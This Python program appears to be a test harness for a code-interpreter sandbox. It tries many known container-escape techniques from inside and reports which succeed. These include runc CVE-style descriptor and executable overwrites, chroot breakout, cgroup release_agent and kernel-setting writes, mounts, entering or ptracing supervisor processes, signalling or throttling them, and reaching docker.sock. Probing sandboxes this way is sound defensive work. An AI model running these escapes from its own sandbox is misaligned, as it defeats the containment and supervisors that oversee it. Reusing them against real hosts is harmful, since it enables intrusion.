"""Ways out of a sandbox that are known from others, tried from inside: a program by itself.

``python3 escapes.py BAIT.json`` prints JSON: scenario → what was got, or null. The bait tells
what there is outside: a file, sockets, shared memory, a process (see `test_escapes`).
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import socket
import stat
import struct
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Scenario = Callable[[dict[str, Any]], object]
SCENARIOS: dict[str, Scenario] = {}
_libc = ctypes.CDLL(None, use_errno=True)
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000


def scenario(attempt: Scenario) -> Scenario:
    SCENARIOS[attempt.__name__] = attempt
    return attempt


def _call(number: int, *arguments: int | bytes) -> int:
    result = int(_libc.syscall(ctypes.c_long(number), *arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _any(attempts: Iterator[Callable[[], object]]) -> object:
    for attempt in attempts:
        try:
            got = attempt()
        except (OSError, ValueError, PermissionError):
            continue
        if got:
            return got
    return None


def _write(path: str, text: str) -> Callable[[], object]:
    def attempt() -> str:
        with open(path, "w") as file:
            file.write(text)
        return f"wrote {path}"

    return attempt


def _mount(source: bytes, target: bytes, kind: bytes, flags: int = 0, data: bytes = b"") -> str:
    if _libc.mount(source, target, kind, flags, data):
        raise OSError(ctypes.get_errno(), "mount")
    return f"mounted {kind.decode()}"


def _supervisors() -> list[int]:
    """Their uid is none of this user namespace, so it shows as nobody's."""
    found = {1}
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            if "\nUid:\t65534\t" in status.read_text():
                found.add(int(status.parent.name))
        except OSError:
            continue
    return sorted(found)


def _holds(path: str, secret: str) -> Callable[[], object]:
    def attempt() -> object:
        with open(path) as file:
            return path if secret in file.read(10_000) else None

    return attempt


# --- files of the host --------------------------------------------------------------------


@scenario
def file_by_its_path(bait: dict[str, Any]) -> object:
    path = bait["file"]
    ways = [path, f"/..{path}", f"/proc/self/root{path}", f"/proc/self/cwd/../../..{path}"]
    ways += [f"/proc/{pid}/root{path}" for pid in _supervisors()]
    ways += [f"/proc/{pid}/cwd/../../../..{path}" for pid in _supervisors()]
    return _any(_holds(way, bait["secret"]) for way in ways)


@scenario
def file_by_an_inherited_descriptor(bait: dict[str, Any]) -> object:
    """Of runc's CVE-2024-21626: a descriptor, or a working directory, that leads outside."""
    above = "../" * 12
    fds = [int(name) for name in os.listdir("/proc/self/fd")]
    ways = [f"/proc/self/fd/{fd}/{above}{bait['file']}" for fd in fds]
    ways += [f"/proc/self/fd/{fd}" for fd in fds if fd > 2]
    return _any(_holds(way, bait["secret"]) for way in ways)


@scenario
def file_by_its_handle(bait: dict[str, Any]) -> object:
    """Handles of the first inodes of each file system: that of its root is among them."""

    def attempts() -> Iterator[Callable[[], object]]:
        for place in ("/", "/usr", "/etc", "/home/user", "/dev/shm"):
            directory = os.open(place, os.O_RDONLY)
            for inode in (2, 64, 128, 256):
                handle = struct.pack("IiQ", 8, 1, inode) + bytes(128)
                yield lambda d=directory, h=handle: _call(304, d, h, os.O_RDONLY)  # type: ignore[misc]

    return _any(attempts())


@scenario
def above_the_root_by_chroot(bait: dict[str, Any]) -> object:
    child = os.fork()
    if child:
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0 or None
    try:
        directory = os.open("/", os.O_RDONLY)
        os.chroot(tempfile.mkdtemp())
        os.fchdir(directory)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        got = _holds(bait["file"], bait["secret"])()
    except OSError:
        got = None
    os._exit(0 if got else 1)


@scenario
def programs_of_the_host_overwritten(bait: dict[str, Any]) -> object:
    """Of runc's CVE-2019-5736: through what runs it. That of the host is looked at from there."""
    exes = [f"/proc/{pid}/exe" for pid in _supervisors()]
    maps = [name for pid in _supervisors() for name in glob.glob(f"/proc/{pid}/map_files/*")]
    return _any(_write(path, bait["mark"]) for path in exes + maps)


@scenario
def layers_below(bait: dict[str, Any]) -> object:
    """Attributes and whiteouts by which overlayfs could be made to show something else."""
    place = tempfile.mkdtemp(dir="/home")
    names = ("trusted.overlay.redirect", "trusted.overlay.opaque", "security.capability")
    values = (bait["file"].encode(), b"y", struct.pack("<IIIII", 0x2000001, 1 << 21, 0, 0, 0))

    def attribute(name: str, value: bytes) -> object:
        os.setxattr(place, name, value)
        return None if name == "security.capability" else name

    pairs = zip(names, values, strict=True)
    return _any((lambda n=n, v=v: attribute(n, v)) for n, v in pairs)  # type: ignore[misc]


# --- mounts -------------------------------------------------------------------------------


@scenario
def mounts_of_each_kind(bait: dict[str, Any]) -> object:
    target = tempfile.mkdtemp().encode()
    kinds = b"tmpfs proc sysfs cgroup cgroup2 overlay devtmpfs devpts debugfs bpf fuse ext4".split()

    def attempts() -> Iterator[Callable[[], object]]:
        for kind in kinds:
            yield lambda kind=kind: _mount(b"/dev/loop0", target, kind)  # type: ignore[misc]
        yield lambda: _mount(b"/", target, b"", 4096)
        yield lambda: _mount(b"none", b"/", b"", 1 << 20)
        yield lambda: _mount(b"none", b"/proc/sys", b"", 32 | 4096)
        yield lambda: _libc.umount2(b"/proc/sys", 2) == 0
        yield lambda: _libc.umount2(b"/run/code-interpreter", 2) == 0

    return _any(attempts())


@scenario
def mount_points_exchanged(bait: dict[str, Any]) -> object:
    """Of runc's CVE-2021-30465 and CVE-2025-31133: links in the place of what is mounted."""

    def exchange(path: str) -> object:
        other = tempfile.mkdtemp(dir=os.path.dirname(path))
        if _libc.renameat2(-100, path.encode(), -100, other.encode(), 2):
            raise OSError
        return f"exchanged {path}"

    places = ("/run/code-interpreter", "/dev/pts", "/dev/null", "/proc/sys", "/usr/local")
    return _any((lambda p=p: exchange(p)) for p in places)  # type: ignore[misc]


# --- the kernel's own ---------------------------------------------------------------------


@scenario
def release_agent(bait: dict[str, Any]) -> object:
    files = [f"{place}/release_agent" for place, _, _ in os.walk("/sys/fs/cgroup")]
    files += glob.glob("/run/code-interpreter/cgroup/*/release_agent")
    return _any(_write(path, bait["mark"]) for path in files)


@scenario
def own_control_group(bait: dict[str, Any]) -> object:
    files = [f"{p}/{f}" for p, _, fs in os.walk("/sys/fs/cgroup") for f in fs]
    return _any(_write(path, "-1") for path in files)


@scenario
def kernel_settings(bait: dict[str, Any]) -> object:
    """Every file that a privileged container could write."""
    roots = ("/proc/sys", "/proc/irq", "/proc/bus", "/proc/fs", "/sys")
    files = [f"{place}/{n}" for root in roots for place, _, ns in os.walk(root) for n in ns]
    named = ["/proc/sysrq-trigger", "/proc/kcore", "/proc/kmem", "/proc/sys/kernel/core_pattern"]
    named += ["/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register"]
    named += ["/sys/kernel/uevent_helper", "/proc/timer_list", "/proc/scsi/scsi", "/proc/acpi"]

    def opened(path: str) -> object:
        file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        hidden = os.fstat(file).st_rdev == os.makedev(1, 3)  # behind /dev/null
        os.close(file)
        return None if hidden else path

    return _any((lambda p=p: opened(p)) for p in named + files)  # type: ignore[misc]


@scenario
def kernel_modules(bait: dict[str, Any]) -> object:
    return _any(
        iter(
            (
                lambda: _call(175, b"\x7fELF", 4, b"") == 0,
                lambda: _call(313, os.open("/bin/true", os.O_RDONLY), b"", 0) == 0,
                lambda: _call(246, 0, 0, 0, 0) == 0,
                lambda: _call(321, 5, bytes(128), 128) >= 0,
            )
        )
    )


@scenario
def devices(bait: dict[str, Any]) -> object:
    numbers = [(8, 0), (254, 0), (253, 0), (259, 0), (7, 0), (1, 1), (1, 4), (10, 237), (10, 232)]
    numbers += [(10, 229), (1, 11), (5, 1), (4, 0), (10, 200)]
    place = tempfile.mkdtemp(dir="/dev/shm" if os.geteuid() else "/root")

    def node(kind: int, major: int, minor: int) -> object:
        path = f"{place}/{kind}-{major}-{minor}"
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
        return os.open(path, os.O_RDONLY | os.O_NONBLOCK) and f"{major}:{minor}"

    kinds = (stat.S_IFBLK, stat.S_IFCHR)
    made = _any((lambda k=k, n=n: node(k, *n)) for k in kinds for n in numbers)  # type: ignore[misc]
    usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
    nodes = [p for p in Path("/dev").iterdir() if not p.is_symlink()]
    nodes = [p for p in nodes if p.is_block_device() or p.is_char_device()]
    return made or [str(path) for path in nodes if path.name not in usual] or None


# --- namespaces and processes -------------------------------------------------------------


@scenario
def namespaces_of_others(bait: dict[str, Any]) -> object:
    def enter(path: str, kind: int) -> object:
        return _libc.setns(os.open(path, os.O_RDONLY), kind) == 0 and path

    paths = [p for pid in _supervisors() for p in glob.glob(f"/proc/{pid}/ns/*")]
    return _any((lambda p=p: enter(p, 0)) for p in paths)  # type: ignore[misc]


@scenario
def namespaces_above(bait: dict[str, Any]) -> object:
    """By NS_GET_USERNS and NS_GET_PARENT of ioctl_ns(2), as far as they lead."""

    def climb(kind: str, request: int) -> object:
        found = fcntl.ioctl(os.open(f"/proc/self/ns/{kind}", os.O_RDONLY), request)
        return _libc.setns(found, 0) == 0 and f"{kind} {request:x}"

    kinds, requests = ("user", "pid", "mnt", "net"), (0xB701, 0xB702)
    return _any((lambda k=k, r=r: climb(k, r)) for k in kinds for r in requests)  # type: ignore[misc]


@scenario
def namespaces_inside(bait: dict[str, Any]) -> object:
    flags = (NEW_USER, NEW_MOUNTS, NEW_USER | NEW_MOUNTS, 0x40000000, 0x20000000, 0x02000000)
    return _any((lambda f=f: _libc.unshare(f) == 0 and hex(f)) for f in flags)  # type: ignore[misc]


@scenario
def maps_of_ids(bait: dict[str, Any]) -> object:
    files = [f"/proc/{p}/{m}" for p in ("self", *_supervisors()) for m in ("uid_map", "gid_map")]
    return _any(_write(path, "0 0 4294967295") for path in files)


@scenario
def supervisors_traced(bait: dict[str, Any]) -> object:
    buffer = ctypes.create_string_buffer(8)

    def attempts() -> Iterator[Callable[[], object]]:
        for pid in _supervisors():
            yield lambda p=pid: _call(101, 0x4206, p, 0, 0) == 0  # type: ignore[misc]
            yield lambda p=pid: _call(101, 16, p, 0, 0) == 0  # type: ignore[misc]
            yield lambda p=pid: os.open(f"/proc/{p}/mem", os.O_RDWR)  # type: ignore[misc]
            yield lambda p=pid: Path(f"/proc/{p}/environ").read_bytes()  # type: ignore[misc]
            yield lambda p=pid: os.listdir(f"/proc/{p}/fd")  # type: ignore[misc]
            yield lambda p=pid: _call(438, os.pidfd_open(p), 0, 0) >= 0  # type: ignore[misc]
            yield lambda p=pid: _call(310, p, ctypes.addressof(buffer), 1, 0, 1, 0) > 0  # type: ignore[misc]

    return _any(attempts())


@scenario
def supervisors_held_back(bait: dict[str, Any]) -> object:
    """Ended, stopped, slowed down, or put first when memory runs out."""

    def attempts() -> Iterator[Callable[[], object]]:
        for pid in _supervisors():
            yield lambda p=pid: _call(62, p, 0) == 0 and "signal"  # type: ignore[misc]
            yield lambda p=pid: _call(141, 0, p, 19) == 0 and "priority"  # type: ignore[misc]
            yield lambda p=pid: _call(203, p, 8, b"\1" + bytes(7)) == 0 and "cores"  # type: ignore[misc]
            yield _write(f"/proc/{pid}/oom_score_adj", "1000")
            yield lambda p=pid: _call(302, p, 7, bytes(16), 0) == 0 and "limits"  # type: ignore[misc]

    return _any(attempts())


@scenario
def processes_of_the_host(bait: dict[str, Any]) -> object:
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if bait["program"].encode() in Path(path).read_bytes():
                return path
        except OSError:
            continue
    return None


# --- sockets and memory that are shared ---------------------------------------------------


def _connected(family: int, address: Any) -> Callable[[], object]:
    def attempt() -> object:
        with socket.socket(family, socket.SOCK_STREAM) as peer:
            peer.settimeout(2)
            peer.connect(address)
            return str(address)

    return attempt


@scenario
def services_of_the_host(bait: dict[str, Any]) -> object:
    ports, addresses = bait["ports"], ["127.0.0.1", "127.0.1.1", "0.0.0.0", *bait["addresses"]]
    return _any(_connected(socket.AF_INET, (a, p)) for p in ports for a in addresses) or _any(
        _connected(socket.AF_INET6, (a, p)) for p in ports for a in ("::1", "::ffff:127.0.0.1")
    )


@scenario
def unix_sockets_of_the_host(bait: dict[str, Any]) -> object:
    names = [*bait["unix"], "\0" + bait["abstract"]]
    names += ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private"]
    return _any(_connected(socket.AF_UNIX, name) for name in names)


@scenario
def sockets_that_are_mounted(bait: dict[str, Any]) -> object:
    """Any that answers, but for those of the sandbox's own kernels."""
    found = []
    for place, directories, names in os.walk("/"):
        if place in ("/proc", "/sys", "/run/code-interpreter-kernels"):
            directories.clear()
            continue
        paths = [os.path.join(place, name) for name in names]
        found += [path for path in paths if _is_socket(path)]
    return _any(_connected(socket.AF_UNIX, path) for path in found)


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


@scenario
def networks(bait: dict[str, Any]) -> object:
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    kinds = ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, 1))
    return names or _any((lambda k=k: socket.socket(*k)) for k in kinds)  # type: ignore[misc]


@scenario
def shared_memory(bait: dict[str, Any]) -> object:
    return _any(
        iter(
            (
                lambda: _call(29, bait["segment"], 0, 0) >= 0,
                lambda: os.open(f"/dev/shm/{bait['shared']}", os.O_RDONLY),
                lambda: os.open(f"/dev/mqueue/{bait['shared']}", os.O_RDONLY),
            )
        )
    )


@scenario
def keyrings(bait: dict[str, Any]) -> object:
    return _any(
        iter(
            (
                lambda: _call(250, 0, -3, 0),
                lambda: _call(248, b"user", b"x", b"y", 1, -4),
                lambda: Path("/proc/keys").read_text(),
            )
        )
    )


# --- the machine --------------------------------------------------------------------------


@scenario
def clock_and_name(bait: dict[str, Any]) -> object:
    return _any(
        iter(
            (
                lambda: _call(227, 0, struct.pack("qq", 1, 0)) == 0,
                lambda: _libc.sethostname(b"x", 1) == 0,
                lambda: _call(169, 0xFEE1DEAD, 672274793, 0, 0) == 0,
                lambda: _call(167, b"/dev/shm/x", 0) == 0,
                lambda: _call(103, 3, bytes(10), 10) > 0,
            )
        )
    )


def main() -> None:
    bait = json.loads(Path(sys.argv[1]).read_text())
    got: dict[str, object] = {}
    for name, attempt in SCENARIOS.items():
        try:
            got[name] = attempt(bait) or None
        except Exception as error:  # says so, and goes on
            got[name] = None if isinstance(error, OSError) else f"broken: {error!r}"
    print(json.dumps(got, default=str))


if __name__ == "__main__":
    main()
